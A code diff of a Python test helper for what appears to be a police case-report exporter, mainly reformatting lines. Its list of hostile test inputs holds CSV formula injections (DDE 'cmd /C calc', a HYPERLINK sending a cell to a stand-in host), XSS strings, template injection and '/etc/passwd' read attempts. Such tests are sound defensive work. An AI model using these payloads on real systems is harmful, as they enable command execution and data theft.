@@ -18,8 +18,8 @@ SENTENCES = {
 HOSTILE = [
     "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1", "'=1+1", "''", '"=1+1"',
     '=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1",
-    "a,=1+1", 'a","=1+1', "a;=1+1", "a\r\n=1+1", "a\n@SUM(1)", "=1+1\x00", "DDE(\"cmd\";\"/C calc\";\"x\")",
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</title></style><script>alert(1)</script>",
+    "a,=1+1", 'a","=1+1', "a;=1+1", "a\r\n=1+1", "a\n@SUM(1)", "=1+1\x00", 'DDE("cmd";"/C calc";"x")',
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title></style><script>alert(1)</script>",
     "]]><script>alert(1)</script>", "<!--", "&lt;script&gt;", "javascript:alert(1)", "{{ 7 * 7 }}{% raw %}",
     '#panic("no") #{1 + 1} $x^2$ *b* = h @ref <label> `raw` // c', '#read("/etc/passwd") #include "/etc/passwd"',
     "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VEVENT", "x\nATTACH:file:///etc/passwd", "a;VALUE=URI:http://x.example", "\\n\\,\\;",
@@ -34,7 +34,9 @@ def head_of(language="en", cases=2, code="H1", **more):
         "investigation", code, more.get("conditions", ()),
     )  # fmt: skip
     heads = [
-        CaseHead(str(UUID(int=n)), more.get("reference", name), more.get("title", "Operation Heron"), "National Police", country, code)
+        CaseHead(
+            str(UUID(int=n)), more.get("reference", name), more.get("title", "Operation Heron"), "National Police", country, code
+        )
         for n, (name, country) in enumerate(CASES[:cases], 1)
     ]
     return Head(about, language, heads)
@@ -60,14 +62,18 @@ def made(count, language="en", seed=1):
         precision = chance.choice(["second", "minute", "hour", "day", "month", "year"]) if kind == "fact" else "second"
         at = datetime(2025, 3, 1, tzinfo=UTC) + timedelta(minutes=int(chance.betavariate(2, 1.2) * 60 * 24 * 500))
         at = None if kind == "fact" and n % 29 == 7 else at
-        more = {"text": "A witness remembers the colour of the car.", "confidence": "low", "grading": {"source": "B", "information": "2"}}
+        more = {
+            "text": "A witness remembers the colour of the car.",
+            "confidence": "low",
+            "grading": {"source": "B", "information": "2"},
+        }
         more |= {"subjects": [{"id": "s", "pseudonym": "P1", "category": "suspect"}], "identifiers": [{"id": "i", "kind": "phone"}]}
         more |= {"place": {"name": "Delft", "country": "NL", "latitude": -52.0, "longitude": 4.36}}
         said = chance.choice(SENTENCES[language])
         extra = more if kind == "fact" and chance.random() < 0.4 else {}
         basis = {"basis": chance.choice(["fact", "assessment"])} if kind == "fact" else {}
         entries.append(entry(n, at, chance.randint(1, cases), kind, sentence=said, precision=at and precision, **basis, **extra))
-    for n, kind in enumerate(["identifier", "place", "minute"] * (count and max(1, count // 60))):
+    for kind in ["identifier", "place", "minute"] * (count and max(1, count // 60)):
         one, other = chance.sample(entries, 2)
         if one["case"] != other["case"]:
             one["co_occurrences"].append({"kind": kind, "with": [other["id"]]})
